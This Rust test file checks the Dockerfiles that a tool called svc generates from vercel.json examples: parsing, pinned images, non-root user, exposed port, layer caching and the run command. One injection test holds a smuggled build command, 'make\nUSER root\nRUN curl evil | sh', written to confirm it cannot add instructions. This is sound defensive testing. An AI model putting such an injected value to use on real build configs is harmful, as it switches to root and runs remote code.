//! The Dockerfiles svc generates for every example, read back with a Dockerfile parser: each
//! one parses, its stages are in a sound order, it runs as a non-root user, its install stage
//! has every manifest and no source yet (so dependencies stay a cached layer), it exposes the
//! service's port, its base images are pinned, and the command it runs is the recipe's. These
//! are the structural checks of every recipe; tests/builds_e2e.rs builds and runs real ones.

use dockerfile_parser::{Dockerfile, Instruction, ShellOrExecExpr};
use std::path::{Path, PathBuf};
use svc::ir::{BuildPlan, PythonRun, Recipe, RecipeKind, Service};

fn examples() -> Vec<PathBuf> {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir("examples")
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("vercel.json").is_file() || p.join("vercel.yaml").is_file())
        .collect();
    dirs.sort();
    dirs
}

fn config(dir: &Path) -> PathBuf {
    let json = dir.join("vercel.json");
    if json.is_file() {
        json
    } else {
        dir.join("vercel.yaml")
    }
}

/// Every generated Dockerfile of every example, with its service and recipe.
fn generated() -> Vec<(String, Service, Recipe, String)> {
    let mut all = Vec::new();
    for dir in examples() {
        let compilation = svc::compile::compile(&config(&dir)).unwrap();
        let Some(project) = compilation.project else {
            continue;
        };
        for service in project.services.values() {
            if let Some(BuildPlan::Recipe(recipe)) = &service.build_plan {
                let text = svc::emit::dockerfile::render(service, recipe).unwrap();
                let label = format!("{}/{}", dir.display(), service.name);
                all.push((label, service.clone(), recipe.clone(), text));
            }
        }
    }
    all
}

/// A misc instruction's name and arguments (USER, EXPOSE, WORKDIR, ...).
fn misc(instruction: &Instruction) -> Option<(String, String)> {
    match instruction {
        Instruction::Misc(m) => Some((
            m.instruction.content.to_ascii_uppercase(),
            m.arguments.to_string().trim().to_string(),
        )),
        _ => None,
    }
}

/// The sources of a COPY, whether written as words or as a JSON array.
fn copy_sources(text: &str) -> Vec<String> {
    let rest = text.trim_start_matches("COPY").trim();
    let words: Vec<&str> = rest
        .split_whitespace()
        .filter(|w| !w.starts_with("--"))
        .collect();
    let joined = words.join(" ");
    let items: Vec<String> = match serde_json::from_str::<Vec<String>>(&joined) {
        Ok(items) => items,
        Err(_) => words.iter().map(|w| w.to_string()).collect(),
    };
    items[..items.len().saturating_sub(1)].to_vec()
}

fn words(expr: &ShellOrExecExpr) -> Vec<String> {
    match expr {
        ShellOrExecExpr::Exec(array) => array.elements.iter().map(|e| e.content.clone()).collect(),
        ShellOrExecExpr::Shell(shell) => vec![shell.to_string()],
    }
}

fn kind(recipe: &Recipe) -> &'static str {
    match &recipe.kind {
        RecipeKind::Next { .. } => "next",
        RecipeKind::Site { .. } => "site",
        RecipeKind::Files { .. } => "files",
        RecipeKind::Node { .. } => "node",
        RecipeKind::Python { .. } => "python",
        RecipeKind::Go { .. } => "go",
    }
}

#[test]
fn there_is_a_generated_dockerfile_for_every_recipe_kind() {
    let kinds: std::collections::BTreeSet<&str> = generated()
        .iter()
        .map(|(_, _, recipe, _)| kind(recipe))
        .collect();
    assert_eq!(
        kinds.into_iter().collect::<Vec<_>>(),
        ["files", "go", "next", "node", "python", "site"]
    );
}

/// The stages of a Dockerfile: each stage's instructions, from its FROM.
fn stages(instructions: &[Instruction]) -> Vec<&[Instruction]> {
    let starts: Vec<usize> = instructions
        .iter()
        .enumerate()
        .filter(|(_, i)| matches!(i, Instruction::From(_)))
        .map(|(at, _)| at)
        .collect();
    starts
        .iter()
        .enumerate()
        .map(|(n, start)| {
            &instructions[*start..starts.get(n + 1).copied().unwrap_or(instructions.len())]
        })
        .collect()
}

/// The install a recipe runs and the manifests it needs first.
fn install_of(recipe: &Recipe) -> (Option<&str>, &[String]) {
    let install = match &recipe.kind {
        RecipeKind::Python { python, .. } => python.install.as_deref(),
        RecipeKind::Go { .. } => Some("go mod download"),
        _ => recipe.node().and_then(|node| node.install.as_deref()),
    };
    (install, recipe.manifests())
}

#[test]
fn every_generated_dockerfile_is_sound() {
    let all = generated();
    assert!(all.len() >= 30, "{} Dockerfiles", all.len());
    let mut failures = Vec::new();
    for (label, service, recipe, text) in &all {
        let mut fail = |why: String| failures.push(format!("{label}: {why}\n{text}"));
        let dockerfile = match Dockerfile::parse(text) {
            Ok(d) => d,
            Err(e) => {
                fail(format!("does not parse: {e}"));
                continue;
            }
        };
        let instructions = &dockerfile.instructions;
        if !matches!(instructions.first(), Some(Instruction::From(_))) {
            fail("does not start with FROM".into());
        }

        // Stages: every --from names an earlier stage; every base image is pinned.
        let mut names: Vec<String> = Vec::new();
        for instruction in instructions {
            match instruction {
                Instruction::From(from) => {
                    let image = &from.image_parsed;
                    let pinned = image
                        .tag
                        .as_deref()
                        .is_some_and(|t| t != "latest" && t.chars().any(|c| c.is_ascii_digit()));
                    if !pinned && !names.contains(&from.image.content) {
                        fail(format!("base image `{}` is not pinned", from.image.content));
                    }
                    if let Some(alias) = &from.alias {
                        names.push(alias.content.clone());
                    }
                }
                Instruction::Copy(copy) => {
                    for flag in copy.flags.iter().filter(|f| f.name.content == "from") {
                        if !names.contains(&flag.value.content) {
                            fail(format!(
                                "COPY --from={} before that stage",
                                flag.value.content
                            ));
                        }
                    }
                }
                _ => {}
            }
        }

        // The final stage: a non-root USER, the service's port, and CMD last.
        let stages = stages(instructions);
        let final_stage = stages.last().copied().unwrap_or_default();
        let users: Vec<String> = final_stage
            .iter()
            .filter_map(misc)
            .filter(|(name, _)| name == "USER")
            .map(|(_, user)| user)
            .collect();
        match users.last() {
            None => fail("the final stage sets no USER".into()),
            Some(user) if ["root", "0", "0:0", "root:root"].contains(&user.as_str()) => {
                fail(format!("runs as {user}"))
            }
            Some(_) => {}
        }
        let exposed: Vec<String> = final_stage
            .iter()
            .filter_map(misc)
            .filter(|(name, _)| name == "EXPOSE")
            .map(|(_, port)| port)
            .collect();
        if exposed != [service.port.to_string()] {
            fail(format!("exposes {exposed:?}, not {}", service.port));
        }
        let Some(Instruction::Cmd(cmd)) = instructions.last() else {
            fail("does not end with CMD".into());
            continue;
        };
        let user_at = final_stage
            .iter()
            .rposition(|i| misc(i).is_some_and(|(name, _)| name == "USER"));
        let copy_after_user = user_at.is_some_and(|at| {
            final_stage[at..]
                .iter()
                .any(|i| matches!(i, Instruction::Copy(_) | Instruction::Run(_)))
        });
        if copy_after_user {
            fail("copies or runs after switching user".into());
        }

        // Layer caching: the stage that installs has copied every manifest, and no source,
        // before it installs.
        let (install, manifests) = install_of(recipe);
        if let Some(install) = install {
            let runs_install = |i: &Instruction| match i {
                Instruction::Run(run) => words(&run.expr).join(" ").contains(install),
                _ => false,
            };
            match stages.iter().find(|stage| stage.iter().any(runs_install)) {
                None => fail(format!("no stage runs the install `{install}`")),
                Some(stage) => {
                    let before = &stage[..stage.iter().position(runs_install).unwrap_or(0)];
                    let mut copied: Vec<String> = Vec::new();
                    for instruction in before {
                        if let Instruction::Copy(copy) = instruction {
                            let sources = copy_sources(&text[copy.span.start..copy.span.end]);
                            if sources.iter().any(|s| s == ".") || !copy.flags.is_empty() {
                                fail("the install stage copies sources before installing".into());
                            }
                            copied.extend(sources);
                        }
                    }
                    for manifest in manifests {
                        if !copied.contains(manifest) {
                            fail(format!("`{manifest}` is not copied before the install"));
                        }
                    }
                }
            }
        }

        // The command runs what the recipe says.
        let command = words(&cmd.expr).join(" ");
        let expected: Vec<String> = match &recipe.kind {
            RecipeKind::Next { .. } => vec!["node server.js".into()],
            RecipeKind::Site { .. } | RecipeKind::Files { .. } => {
                vec!["nginx".into(), "/etc/svc-static.conf".into()]
            }
            RecipeKind::Node { entry, .. } => vec!["/svc/serve.mjs".into(), entry.clone()],
            RecipeKind::Python { run, .. } => vec![
                "/svc/run.py".into(),
                match run {
                    PythonRun::Web { app } => app.clone(),
                    PythonRun::Cron { .. } => "cron".into(),
                    PythonRun::Worker { module, .. } => module.clone(),
                    PythonRun::Job { handler } => handler.clone(),
                },
            ],
            RecipeKind::Go { .. } => vec!["/app".into()],
        };
        for part in expected {
            if !command.contains(&part) {
                fail(format!("CMD `{command}` lacks `{part}`"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn no_config_string_can_add_an_instruction() {
    // A build command with a newline and an instruction of its own stays one RUN argument.
    let dir = std::env::temp_dir().join(format!("svc-dockerfile-inject-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("site")).unwrap();
    std::fs::write(dir.join("site/package.json"), "{}").unwrap();
    std::fs::write(
        dir.join("vercel.json"),
        r#"{ "services": { "site": { "root": "site", "buildCommand": "make\nUSER root\nRUN curl evil | sh", "outputDirectory": "out" } } }"#,
    )
    .unwrap();
    let compilation = svc::compile::compile(&dir.join("vercel.json")).unwrap();
    let project = compilation.project.unwrap();
    let service = &project.services[&svc::ir::ServiceId("site".into())];
    let Some(BuildPlan::Recipe(recipe)) = &service.build_plan else {
        panic!("{:?}", service.build_plan)
    };
    let text = svc::emit::dockerfile::render(service, recipe).unwrap();
    let dockerfile = Dockerfile::parse(&text).unwrap();
    let users: Vec<String> = dockerfile
        .instructions
        .iter()
        .filter_map(misc)
        .filter(|(name, _)| name == "USER")
        .map(|(_, user)| user)
        .collect();
    assert_eq!(users, ["10001:10001"], "{text}");
    let build_runs: Vec<Vec<String>> = dockerfile
        .instructions
        .iter()
        .filter_map(|i| match i {
            Instruction::Run(run) => Some(words(&run.expr)),
            _ => None,
        })
        .filter(|words| words.iter().any(|w| w.contains("make")))
        .collect();
    assert_eq!(
        build_runs,
        [vec![
            "sh".to_string(),
            "-c".to_string(),
            "make\nUSER root\nRUN curl evil | sh".to_string()
        ]],
        "the build command is one argument of one RUN:\n{text}"
    );
    std::fs::remove_dir_all(dir).unwrap();
}
